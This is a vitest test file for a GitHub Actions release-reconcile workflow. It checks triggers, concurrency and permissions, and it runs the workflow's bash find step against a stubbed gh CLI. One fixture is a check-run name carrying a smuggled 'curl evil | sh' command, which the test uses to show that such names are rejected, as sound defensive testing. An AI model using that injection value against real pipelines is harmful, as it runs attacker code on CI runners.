/**
 * workflows-examples/release-reconcile.yml: what it must hold for mode reconcile to work from a
 * schedule or a workflow_run (which give no release and run on the newest commit), and its `find`
 * step run for real with bash and jq against a stand-in `gh` that answers from canned API pages.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';

const dir = fileURLToPath(new URL('../workflows-examples/', import.meta.url));

interface Step {
  id?: string;
  uses?: string;
  run?: string;
  with?: Record<string, string>;
  env?: Record<string, string>;
}
interface Job {
  if?: string;
  needs?: string;
  concurrency?: { group: string; 'cancel-in-progress': boolean };
  permissions?: Record<string, string>;
  strategy?: { matrix: Record<string, string> };
  steps: Step[];
}
interface Workflow {
  name: string;
  'run-name': string;
  on: Record<string, { inputs?: Record<string, { options?: string[] }>; workflows?: string[]; types?: string[] } | { cron: string }[]>;
  permissions: Record<string, string>;
  jobs: Record<string, Job>;
}

const wf = parse(readFileSync(`${dir}release-reconcile.yml`, 'utf8')) as Workflow;
const release = parse(readFileSync(`${dir}release.yml`, 'utf8')) as Workflow;
const deploy = parse(readFileSync(`${dir}deploy.yml`, 'utf8')) as Workflow;
const actionSteps = Object.values(wf.jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('progressive-release/')));

describe('release-reconcile.yml', () => {
  it('is started by a schedule, by the end of a deploy run and by hand', () => {
    expect(Object.keys(wf.on).sort()).toEqual(['schedule', 'workflow_dispatch', 'workflow_run']);
    // workflow_run names the workflow by its `name:`, not its file.
    expect(wf.on.workflow_run).toEqual({ workflows: [deploy.name], types: ['completed'] });
    const inputs = (wf.on.workflow_dispatch as { inputs: Record<string, unknown> }).inputs;
    for (const name of ['version', 'command', 'release', 'sha', 'stage', 'region', 'reason']) expect(inputs).toHaveProperty(name);
  });

  it('every action step reconciles, and each command word of release.yml is offered', () => {
    expect(actionSteps.length).toBeGreaterThanOrEqual(3);
    for (const s of actionSteps) expect(s.with?.mode).toBe('reconcile');
    const words = (release.on.workflow_dispatch as { inputs: Record<string, { options: string[] }> }).inputs.command?.options.filter((w) => w !== 'start');
    const offered = (wf.on.workflow_dispatch as { inputs: Record<string, { options: string[] }> }).inputs.command?.options;
    expect(offered).toEqual(['reconcile', ...(words ?? [])]);
  });

  it("a command run's title is the command title release.yml writes, to the character", () => {
    const form = /format\('progressive-release [^)]*\)/;
    expect(wf['run-name'].match(form)?.[0]).toBe(release['run-name'].match(form)?.[0]);
  });

  it('reconciles each release in a concurrency group of its own, on the commit its ledger is on', () => {
    const job = wf.jobs.reconcile;
    expect(job?.strategy?.matrix.target).toBe('${{ fromJSON(needs.find.outputs.targets) }}');
    expect(job?.concurrency).toEqual({ group: 'progressive-release-${{ matrix.target.release }}', 'cancel-in-progress': false });
    const step = job?.steps.find((s) => s.uses?.startsWith('progressive-release/'));
    expect(step?.with).toMatchObject({ release: '${{ matrix.target.release }}', sha: '${{ matrix.target.sha }}' });
    expect(job?.steps.find((s) => s.uses?.startsWith('actions/checkout'))?.with?.ref).toBe('${{ matrix.target.sha }}');
    // Commands never wait behind the release they are for.
    expect(wf.jobs.command?.concurrency?.group).toBe('progressive-release-command-${{ github.run_id }}');
  });

  it('grants nothing by default, and each job only what it uses', () => {
    expect(wf.permissions).toEqual({});
    expect(wf.jobs.find?.permissions).toEqual({ checks: 'read', contents: 'read' });
    const driving = { actions: 'write', deployments: 'write', checks: 'write', contents: 'read' };
    for (const name of ['command', 'start', 'reconcile']) expect(wf.jobs[name]?.permissions).toEqual(driving);
  });
});

describe("release-reconcile.yml's find step, run", () => {
  const work = mkdtempSync(join(tmpdir(), 'pr-reconcile-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  const script = wf.jobs.find?.steps.find((s) => s.id === 'find')?.run ?? '';

  // The stand-in for `gh api PATH --jq EXPR`: the canned page for PATH, through jq as gh applies --jq.
  const pages: Record<string, unknown> = {
    'repos/o/r/commits?sha=HEAD1&per_page=30': [{ sha: 'c1' }, { sha: 'c2' }],
    // A commit whose check runs cannot be read, before one that can.
    'repos/o/r/commits?sha=HEAD2&per_page=30': [{ sha: 'c404' }, { sha: 'c2' }],
    'repos/o/r/commits/c1/check-runs?filter=latest&per_page=100': {
      check_runs: [
        { name: 'progressive-release: shop-1.4.2', status: 'in_progress', conclusion: null, head_sha: 'c1' },
        { name: 'progressive-release: shop-1.4.1', status: 'completed', conclusion: 'success', head_sha: 'c1' },
        { name: 'ci / test', status: 'in_progress', conclusion: null, head_sha: 'c1' },
        // Anyone with checks: write can name a check run: a name that is no release id goes no further.
        { name: 'progressive-release: x"; curl evil | sh; "', status: 'in_progress', conclusion: null, head_sha: 'c1' },
      ],
    },
    'repos/o/r/commits/c2/check-runs?filter=latest&per_page=100': {
      check_runs: [
        { name: 'progressive-release: shop-1.4.0', status: 'completed', conclusion: 'action_required', head_sha: 'c2' },
        { name: 'progressive-release: shop-1.4.2', status: 'in_progress', conclusion: null, head_sha: 'c2' },
      ],
    },
  };
  writeFileSync(join(work, 'pages.json'), JSON.stringify(pages));
  const gh = join(work, 'gh');
  writeFileSync(
    gh,
    `#!/usr/bin/env bash
set -eu
[ "$1" = api ] || exit 9
path="$2"; expr=.
if [ "\${3:-}" = --jq ]; then expr="$4"; fi
jq -e --arg p "$path" 'has($p)' "${join(work, 'pages.json')}" >/dev/null || { echo "gh: no page $path" >&2; exit 1; }
jq -c --arg p "$path" '.[$p]' "${join(work, 'pages.json')}" | jq -rc "$expr"
`,
  );
  chmodSync(gh, 0o755);

  function runFind(env: Record<string, string>) {
    const output = join(work, `out-${Math.random().toString(36).slice(2)}`);
    writeFileSync(output, '');
    const file = `${output}.sh`;
    writeFileSync(file, script);
    // As the runner runs a `run:` step (shell: bash).
    const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', file], {
      env: { PATH: `${work}:${process.env.PATH ?? ''}`, GITHUB_OUTPUT: output, REPO: 'o/r', HEAD: 'HEAD1', RELEASE: '', SHA: '', DEPTH: '30', ...env },
      encoding: 'utf8',
    });
    return { ...r, output };
  }

  function find(env: Record<string, string>): unknown {
    const r = runFind(env);
    const output = r.output;
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const line = readFileSync(output, 'utf8').trim();
    expect(line.startsWith('targets=')).toBe(true);
    return JSON.parse(line.slice('targets='.length));
  }

  it('a schedule: every release in flight or waiting for a person, once, with the commit of its ledger', () => {
    // shop-1.4.2 has a ledger on two commits (the first one found, newest commit first, is kept); finished ones and other checks are not releases in flight.
    expect(find({})).toEqual([
      { release: 'shop-1.4.0', sha: 'c2' },
      { release: 'shop-1.4.2', sha: 'c1' },
    ]);
  });

  it('by hand, with a release: that release only, on its ledger commit', () => {
    expect(find({ RELEASE: 'shop-1.4.0' })).toEqual([{ release: 'shop-1.4.0', sha: 'c2' }]);
  });

  it('by hand, with a release and its commit: taken as given, nothing looked up', () => {
    expect(find({ RELEASE: 'shop-9', SHA: 'abc', PATH: `${work}-nothing:${process.env.PATH ?? ''}` })).toEqual([{ release: 'shop-9', sha: 'abc' }]);
  });

  it('by hand, a release without a ledger among them: tried on this commit (the action then says where it is)', () => {
    expect(find({ RELEASE: 'shop-0.1' })).toEqual([{ release: 'shop-0.1', sha: 'HEAD1' }]);
  });

  it('a GitHub request that fails fails the step, instead of reconciling nothing', () => {
    for (const [head, page] of [
      ['unknown', 'repos/o/r/commits?sha=unknown'],
      ['HEAD2', 'repos/o/r/commits/c404/check-runs'],
    ] as const) {
      const r = runFind({ HEAD: head });
      expect(r.status, head).not.toBe(0);
      expect(r.stderr).toContain(`gh: no page ${page}`);
      expect(readFileSync(r.output, 'utf8')).toBe('');
    }
  });
});
